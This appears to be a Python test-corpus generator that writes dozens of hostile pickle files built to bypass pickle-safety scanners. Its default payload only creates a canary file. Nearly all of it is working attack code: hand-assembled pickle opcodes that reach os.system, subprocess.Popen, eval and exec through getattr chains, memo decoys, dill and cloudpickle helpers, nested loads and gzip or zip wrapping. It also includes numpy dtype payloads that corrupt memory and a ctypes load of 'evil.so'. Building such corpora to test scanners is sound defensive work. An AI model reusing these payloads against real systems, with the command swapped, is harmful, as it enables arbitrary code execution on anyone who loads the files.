"""Writes hostile files into the folder of the first argument: each would create a canary file, named by the second,
if it were loaded by the function it targets.

They are published attacks that pickle scanners missed, and attacks that dill's helper functions make possible.
"""

import gzip
import io
import pathlib
import pickle
import struct
import sys
import zipfile

import cloudpickle
import dill

FOLDER, CANARY = pathlib.Path(sys.argv[1]), sys.argv[2]
COMMAND = f"touch {CANARY}"
SOURCE = f"open({CANARY!r}, 'w')"


# Opcodes, for pickles that no pickler writes.
def text(value):
    encoded = value.encode()
    return b"X" + struct.pack("<I", len(encoded)) + encoded


def blob(value):
    return b"B" + struct.pack("<I", len(value)) + value


def name(module, attribute):
    return text(module) + text(attribute) + b"\x93"


def line(module, attribute):
    return f"c{module}\n{attribute}\n".encode()


def tuple_of(*items):
    return b"(" + b"".join(items) + b"t"


def call(function, *items):
    return function + tuple_of(*items) + b"R"


def whole(*parts):
    return b"\x80\x04" + b"".join(parts) + b"."


def session(*parts):
    """Wraps opcodes in the start and end of a file by `dill.dump_module`."""
    prelude = call(name("dill._dill", "_import_module"), text("__main__"))
    return whole(prelude, b"}(", b"".join(parts), b"ub")


GETATTR = name("builtins", "getattr")
IMPORT = name("dill._dill", "_import_module")
OS = call(IMPORT, text("os"))


class By:
    """Pickled as a call."""

    def __init__(self, function, *arguments):
        self.function, self.arguments = function, arguments

    def __reduce__(self):
        return self.function, self.arguments


def carried():
    def harm(*_):
        import os

        os.system(COMMAND)

    return harm


def body(function):
    """dill's opcodes of a function, without FRAME and STOP."""
    dumped = dill.dumps(function, protocol=3)
    return dumped[2:-1]


def made_class(namespace, bases=b"(" + name("builtins", "object") + b"t", meta=name("builtins", "type")):
    items = b"".join(text(key) + value for key, value in namespace.items())
    return call(name("dill._dill", "_create_type"), meta, text("X"), bases, b"}(" + items + b"u")


DTYPE, NDARRAY = name("numpy", "dtype"), name("numpy", "ndarray")
ONE, OBJECTS, ADDRESS = tuple_of(b"K\x01"), text("O"), blob(b"A" * 8)


def number(value):
    return b"J" + struct.pack("<i", value)


def dtype(code, size=-1, flags=0, names=b"N", fields=b"N", subarray=b"N"):
    """A dtype with the given state."""
    code = text(code) if isinstance(code, str) else code
    state = tuple_of(b"K\x03", text("<"), subarray, names, fields, number(size), number(-1), number(flags))
    return call(DTYPE, code, b"\x89", b"\x88") + state + b"b"


def fields(**items):
    """Names and fields of a structured dtype."""
    named = [text(key) + tuple_of(of, number(offset)) for key, (of, offset) in items.items()]
    return {"names": tuple_of(*map(text, items)), "fields": b"}(" + b"".join(named) + b"u"}


def array(of, data):
    """An array as numpy writes it, with this dtype and these bytes."""
    made = call(name("numpy._core.multiarray", "_reconstruct"), NDARRAY, tuple_of(b"K\x00"), blob(b"b"))
    return made + tuple_of(b"K\x01", ONE, of, b"\x89", blob(data)) + b"b"


def memory():
    """numpy would use numbers as addresses, or read out of bounds: these at least crash the process."""
    reconstruct = name("numpy._core.multiarray", "_reconstruct")
    yield "memory-called", whole(call(NDARRAY, ONE, OBJECTS, ADDRESS))
    yield "memory-inst", b"(" + ONE + OBJECTS + ADDRESS + b"inumpy\nndarray\n."
    yield "memory-newobj", whole(NDARRAY, tuple_of(ONE, OBJECTS, ADDRESS), b"\x81")
    yield "memory-newobj-ex", whole(NDARRAY, tuple_of(ONE, OBJECTS), b"}", text("buffer"), ADDRESS, b"s\x92")
    yield "memory-reconstruct", whole(call(reconstruct, NDARRAY, ONE, OBJECTS, ADDRESS))
    yield "memory-copyreg", whole(call(name("copyreg", "__newobj__"), NDARRAY, ONE, OBJECTS, ADDRESS))
    yield "memory-create-array", whole(call(name("dill._dill", "_create_array"), NDARRAY, tuple_of(ONE, OBJECTS, ADDRESS), b"N"))
    yield "memory-getattr", whole(call(call(GETATTR, call(IMPORT, text("numpy")), text("ndarray")), ONE, OBJECTS, ADDRESS))
    yield "memory-partial", whole(call(call(name("functools", "partial"), NDARRAY, ONE, OBJECTS), ADDRESS))
    yield "memory-recarray", whole(name("numpy", "recarray"), tuple_of(ONE, OBJECTS, ADDRESS), b"\x81")
    yield "memory-recarray-rec", whole(call(name("numpy.rec", "recarray"), ONE, OBJECTS, ADDRESS))
    yield "memory-chararray", whole(call(name("numpy.char", "chararray"), ONE, OBJECTS, b"\x89", ADDRESS))
    yield "dtype-numbers-as-objects", whole(array(dtype("f8", flags=63), b"A" * 8))
    yield "dtype-numbers-as-references", whole(dtype("i8", flags=1))
    yield "dtype-objects-denied", whole(array(dtype("O8", flags=0), b"A" * 8))
    yield "dtype-of-wrong-size", whole(array(dtype("f8", size=1 << 20), b"A" * 8))
    yield "dtype-text-of-wrong-size", whole(dtype("U2", size=1 << 20))
    yield "dtype-field-outside", whole(dtype("V8", size=8, **fields(a=(dtype("i4"), 1 << 20))))
    yield "dtype-field-before", whole(dtype("V8", size=8, **fields(a=(dtype("i4"), -8))))
    yield "dtype-field-denied", whole(array(dtype("V8", size=8, **fields(a=(dtype("O8", flags=63), 0))), b"A" * 8))
    yield "dtype-field-claimed", whole(array(dtype("V8", size=8, flags=27, **fields(a=(dtype("i8"), 0))), b"A" * 8))
    yield "dtype-of-dtype", whole(array(dtype(call(DTYPE, text("O8"))), b"A" * 8))
    yield "dtype-of-class", whole(array(dtype(name("collections", "OrderedDict")), b"A" * 8))
    yield "dtype-hidden", whole(call(name("copyreg", "__newobj__"), DTYPE, text("O8")), tuple_of(b"K\x03", text("|"), b"NNN", number(-1), number(-1), b"K\x00"), b"b")
    yield "dtype-second-state", whole(dtype("O8", flags=63), tuple_of(b"K\x03", text("|"), b"NNN", number(-1), number(-1), b"K\x00"), b"b")
    yield "dtype-subarray-outside", whole(dtype("V8", size=8, subarray=tuple_of(dtype("i4"), tuple_of(number(1 << 20)))))
    yield "dtype-in-data", whole(b"](", b"".join(tuple_of(b"K\x01", b"]") for _ in range(100)), array(dtype("f8", flags=63), b"A" * 8), b"e")
    yield "dtype-in-session", session(text("x"), array(dtype("f8", flags=63), b"A" * 8))


def classes_and_imports():
    """Calls `types.new_class`, as dill does for generic classes, with callables that it gets by name."""
    new_class, meta = name("types", "new_class"), b"}" + text("metaclass")
    plain = meta + name("builtins", "type") + b"s"
    fill = call(name("functools", "partial"), name("os", "system"), text(COMMAND))
    yield "new-class-filled", whole(call(new_class, text("X"), b")", plain, fill))
    yield "new-class-filled-by-carried", whole(call(new_class, text("X"), b")", plain, body(carried())))
    yield "new-class-metaclass", whole(call(new_class, text(COMMAND), b")", meta + name("os", "system") + b"s"))
    yield "new-class-keywords", whole(call(new_class, text("X"), tuple_of(name("subprocess", "Popen")), b"}" + text("args") + text(COMMAND) + b"s"))
    source = b"}" + text("source") + b"}" + text("__del__") + body(carried()) + b"ss"
    setter = call(name("functools", "partial"), name("dill._dill", "_setitems"))
    setter += tuple_of(name("dill._dill", "_setitems"), b")", source, b"N") + b"b"
    yield "new-class-del", whole(call(new_class, text("X"), b")", plain, setter), b")\x810N")
    top_level = text("__dill_imported_top_level")
    yield "session-imports", session(top_level, b"](" + tuple_of(text("antigravity"), text("x")) + b"e")
    many = b"".join(tuple_of(text("math"), text(f"m{n}")) for n in range(200))
    yield "session-imports-many", session(top_level, b"](" + many + tuple_of(text("antigravity"), text("x")) + b"e")
    computed = tuple_of(call(name("builtins", "str"), text("antigravity")), text("x"))
    yield "session-imports-computed", session(top_level, b"](" + computed + b"e")


def importables():
    import code
    import ctypes
    import importlib
    import os
    import pdb
    import pty
    import runpy
    import shutil
    import socket
    import subprocess
    import timeit
    import urllib.request
    import webbrowser

    yield "os-system", By(os.system, COMMAND)
    yield "os-popen", By(os.popen, COMMAND)
    yield "os-execv", By(os.execv, "/bin/sh", ["sh", "-c", COMMAND])
    yield "os-remove", By(os.remove, CANARY)
    yield "subprocess-run", By(subprocess.run, ["sh", "-c", COMMAND])
    yield "subprocess-popen", By(subprocess.Popen, ["sh", "-c", COMMAND])
    yield "subprocess-check-output", By(subprocess.check_output, ["sh", "-c", COMMAND])
    yield "builtins-eval", By(eval, SOURCE)
    yield "builtins-exec", By(exec, SOURCE)
    yield "builtins-compile", By(compile, SOURCE, "x", "exec")
    yield "builtins-open", By(open, CANARY, "w")
    yield "builtins-import", By(__import__, "antigravity")
    yield "runpy", By(runpy.run_path, "/tmp/x.py")
    yield "runpy-code", By(runpy._run_code, SOURCE, {})
    yield "importlib", By(importlib.import_module, "antigravity")
    yield "ctypes", By(ctypes.CDLL, "evil.so")
    yield "webbrowser", By(webbrowser.open, "http://localhost")
    yield "socket", By(socket.create_connection, ("localhost", 1))
    yield "urlopen", By(urllib.request.urlopen, "http://localhost")
    yield "timeit", By(timeit.timeit, SOURCE)
    yield "code", By(code.interact)
    yield "pdb", By(pdb.run, SOURCE)
    yield "pty", By(pty.spawn, ["sh", "-c", COMMAND])
    yield "shutil", By(shutil.rmtree, CANARY)
    yield "dill-eval-repr", By(dill._dill._eval_repr, SOURCE)
    yield "dill-eval-repr-range", By(dill._dill._eval_repr, f"range({SOURCE})")
    yield "nested-loads", By(pickle.loads, pickle.dumps(By(os.system, COMMAND)))
    yield "nested-dill", By(dill.loads, dill.dumps(By(os.system, COMMAND)))
    yield "nested-cloudpickle", By(cloudpickle.loads, pickle.dumps(By(pickle.loads, pickle.dumps(By(os.system, COMMAND)))))
    yield "list-map", By(list, By(map, os.system, [COMMAND]))
    yield "within-data", {"a": [1, {"b": (By(os.system, COMMAND),)}]}
    yield "dict-key", {By(os.system, COMMAND): 1}


def handmade():
    sh = text(COMMAND)
    for module, function in [
        ("numpy.f2py.crackfortran", "getlincoef"), ("numpy.testing._private.utils", "runstring"), ("torch.hub", "load"),
        ("torch.utils.collect_env", "run"), ("torch._dynamo.guards.GuardBuilder", "get"), ("cProfile", "run"), ("bdb", "Bdb.run"),
        ("idlelib.pyshell", "ModifiedInterpreter.runcode"), ("lib2to3.pgen2.grammar", "Grammar.loadPickle"),
        ("asyncio.subprocess", "create_subprocess_shell"), ("joblib", "load"), ("pandas", "read_pickle"), ("pandas", "eval"),
        ("numpy", "load"), ("smtplib", "SMTP"), ("http.client", "HTTPSConnection"), ("sys", "setprofile"), ("nt", "system"), ("trace", "Trace.run"),
    ]:
        yield f"helper-{module}-{function}", whole(call(name(module, function), sh))
    yield "protocol-0", f"cos\nsystem\n(V{COMMAND}\ntR.".encode()
    yield "old-names", f"c__builtin__\neval\n(V{SOURCE}\ntR.".encode()
    yield "old-commands", f"ccommands\ngetoutput\n(V{COMMAND}\ntR.".encode()
    yield "inst", f"(V{COMMAND}\nios\nsystem\n.".encode()
    yield "obj", b"(" + line("os", "system") + sh + b"o."
    yield "newobj-popen", whole(name("subprocess", "Popen"), tuple_of(sh), b"\x81")
    yield "stacked-names", whole(text("system") + b"\x940" + text("os") + b"h\x00\x93", tuple_of(sh), b"R")
    yield "dup", whole(text("os"), b"2\x94", b"0", text("system"), b"\x93", tuple_of(sh), b"R")
    yield "memo-overwritten", whole(name("math", "sin"), b"q\x00", b"0", name("os", "system"), b"q\x000h\x00", tuple_of(sh), b"R")
    yield "memo-decoy", whole(name("os", "system"), b"q\x050", b"h\x05", name("math", "sin"), b"q\x050", tuple_of(sh), b"R")
    yield "dotted", whole(call(name("dill._dill", "os.system"), sh))
    yield "dotted-builtins", whole(call(name("collections", "abc.sys.modules"), sh))
    yield "getattr", whole(call(call(GETATTR, OS, text("system")), sh))
    yield "getattr-of-path", whole(call(call(GETATTR, call(GETATTR, call(IMPORT, text("os.path")), text("os")), text("system")), sh))
    yield "getattr-name-computed", whole(call(call(GETATTR, OS, call(name("builtins", "str"), text("system"))), sh))
    yield "dill-get-attr", whole(call(call(name("dill._dill", "_get_attr"), OS, text("system")), sh))
    yield "dill-import-type", whole(call(call(IMPORT, text("subprocess.Popen")), sh))
    yield "dill-import-computed", whole(call(IMPORT, call(name("builtins", "str"), text("antigravity"))))
    yield "dill-import-antigravity", whole(call(IMPORT, text("antigravity")))
    yield "attrgetter", whole(call(call(call(name("operator", "attrgetter"), text("system")), OS), sh))
    yield "attrgetter-load-type", whole(call(call(call(call(name("dill._dill", "_load_type"), text("AttrGetterType")), text("system")), OS), sh))
    yield "methodcaller", whole(call(call(name("operator", "methodcaller"), text("system"), sh), OS))
    yield "partial", whole(call(call(name("functools", "partial"), name("os", "system")), sh))
    yield "partial-built", whole(call(name("functools", "partial"), name("builtins", "len")), tuple_of(name("os", "system"), tuple_of(sh), b"}", b"}"), b"b", b")R")
    yield "reduce", whole(call(name("functools", "reduce"), name("os", "system"), tuple_of(sh, sh)))
    yield "map-of-partial", whole(call(name("builtins", "tuple"), call(name("builtins", "map"), call(name("functools", "partial"), name("os", "system")), tuple_of(sh))))
    yield "starmap", whole(call(name("collections", "deque"), call(name("itertools", "starmap"), name("os", "system"), tuple_of(tuple_of(sh)))))
    yield "create-array", whole(call(name("dill._dill", "_create_array"), name("os", "system"), tuple_of(sh), b"N"))
    yield "create-type-of-system", whole(call(name("dill._dill", "_create_type"), name("os", "system"), sh))
    yield "create-ftype", whole(call(name("dill._dill", "_create_ftype"), name("builtins", "exec"), sh, b")", b"N"))
    yield "skeleton-class", whole(call(name("cloudpickle.cloudpickle", "_make_skeleton_class"), name("os", "system"), sh, b")", b"}", b"N", b"N"))
    yield "random-constructor", whole(call(name("numpy.random._pickle", "__generator_ctor"), sh, name("os", "system")))
    yield "reconstructor-base", whole(call(name("copyreg", "_reconstructor"), name("builtins", "object"), name("subprocess", "Popen"), sh))
    yield "function-called", whole(body(carried()), b")R")
    yield "function-called-in-session", session(text("x"), body(carried()), b")R")
    yield "function-called-by-memo", session(text("f"), body(carried()), b"r\xff\xff\x00\x00", text("x"), b"j\xff\xff\x00\x00)R")
    yield "function-mapped", whole(call(name("builtins", "list"), call(name("builtins", "map"), body(carried()), tuple_of(sh))))
    yield "function-as-metaclass", whole(call(name("dill._dill", "_create_type"), body(carried()), sh))
    yield "function-type", whole(call(call(name("types", "FunctionType"), call(name("types", "CodeType"), b"K\x00"), b"}")))
    yield "marshal", whole(call(call(name("types", "FunctionType"), call(name("marshal", "loads"), blob(b"c")), b"}")))
    yield "lru-cache-called", whole(call(call(call(name("functools", "lru_cache"), b"K\x01", b"\x89"), body(carried()))))
    yield "class-called", whole(made_class({"__init__": body(carried())}), b")R")
    yield "class-metaclass", whole(made_class({}, meta=made_class({"__init__": body(carried())}, bases=b"(" + name("builtins", "type") + b"t")))
    yield "class-setstate", whole(made_class({"__setstate__": name("os", "system")}), b")\x81", sh, b"b")
    yield "class-setstate-carried", whole(made_class({"__setstate__": body(carried())}), b")\x81", sh, b"b")
    yield "class-del", whole(made_class({"__del__": body(carried())}), b")\x810N")
    yield "class-append", whole(made_class({"append": name("os", "system")}), b")\x81", sh, b"a")
    yield "instance-setstate", whole(name("argparse", "Namespace"), b")\x81}", text("__setstate__"), name("os", "system"), b"sb", sh, b"b")
    yield "build-on-module", whole(OS, b"}", text("getcwd"), name("os", "system"), b"sb")
    yield "build-on-class", whole(name("pathlib", "Path"), b"}", text("x"), b"K\x01sb")
    yield "item-of-sys-path", whole(name("sys", "path"), sh, b"a")
    yield "item-of-environ", whole(name("os", "environ"), text("PATH"), sh, b"s")
    yield "setattr-on-module", whole(call(name("builtins", "setattr"), OS, text("getcwd"), name("os", "system")))
    yield "main-function", whole(call(IMPORT, text("__main__")), b"}", text("go"), body(carried()), b"sb0", call(name("__main__", "go")))
    yield "globals-of-function", whole(call(call(GETATTR, name("random", "shuffle"), text("__globals__"))))
    yield "subclasses", whole(call(call(GETATTR, name("builtins", "object"), text("__subclasses__"))))
    yield "string-called", whole(call(sh, sh))
    yield "getitem-of-defaultdict", whole(call(name("operator", "getitem"), call(name("collections", "defaultdict"), body(carried())), sh))
    yield "iter-until", whole(call(name("builtins", "list"), call(name("builtins", "iter"), call(name("functools", "partial"), name("os", "system"), sh), b"K\x00")))
    yield "str-of-carried", whole(call(name("builtins", "str"), made_class({"__str__": body(carried())}) + b")\x81"))
    yield "sorted-by-carried", whole(call(name("heapq", "nsmallest"), b"K\x01", tuple_of(sh), body(carried())))
    yield from memory()
    yield from classes_and_imports()
    yield "extension-1", b"\x80\x02\x82\x01" + b"(" + sh + b"tR."
    yield "extension-2", b"\x80\x02\x83\x01\x02."
    yield "extension-4", b"\x80\x02\x84\x01\x02\x03\x04)\x81."
    yield "persistent-id", b"Pevil\n."
    yield "persistent-id-binary", whole(sh, b"Q", b")R")
    yield "file-handle", whole(call(name("dill._dill", "_create_filehandle"), text(CANARY), text("w"), b"K\x00", b"\x89", name("io", "open"), b"\x89", b"K\x00", text("")))
    yield "capsule", whole(call(name("dill._dill", "_create_capsule"), b"K\x01", b"N", b"N", b"N"))
    yield "nested-computed", whole(call(name("pickle", "loads"), call(name("builtins", "bytes"), text("x"), text("utf8"))))
    yield "nested-torch", whole(call(name("torch.storage", "_load_from_bytes"), blob(whole(call(name("os", "system"), sh)))))
    yield "popped", whole(call(name("os", "system"), sh), b"0N")
    yield "popped-with-mark", whole(b"(", call(name("os", "system"), sh), b"1N")
    yield "duplicate-proto", b"\x80\x04\x80\x02" + call(name("os", "system"), sh) + b"\x80\x05."
    yield "second-pickle", whole(b"N") + whole(call(name("os", "system"), sh))
    yield "cut-short", whole(call(name("os", "system"), sh))[:-1]
    yield "unknown-opcode", whole(call(name("os", "system"), sh), b"\xff")
    yield "wrong-at-its-end", whole(call(name("os", "system"), sh), b"h\x77")
    yield "gzipped", gzip.compress(whole(call(name("os", "system"), sh)))
    zipped = io.BytesIO()
    with zipfile.ZipFile(zipped, "w") as archive:
        archive.writestr("data.pkl", whole(call(name("os", "system"), sh)))
    yield "zipped", zipped.getvalue()


def main():
    for kind, value in importables():
        for protocol in (0, 4):
            (FOLDER / f"{kind}-{protocol}.pkl").write_bytes(pickle.dumps(value, protocol=protocol))
    for kind, written in handmade():
        (FOLDER / f"{kind.replace('.', '-')}.pkl").write_bytes(written)


if __name__ == "__main__":
    main()
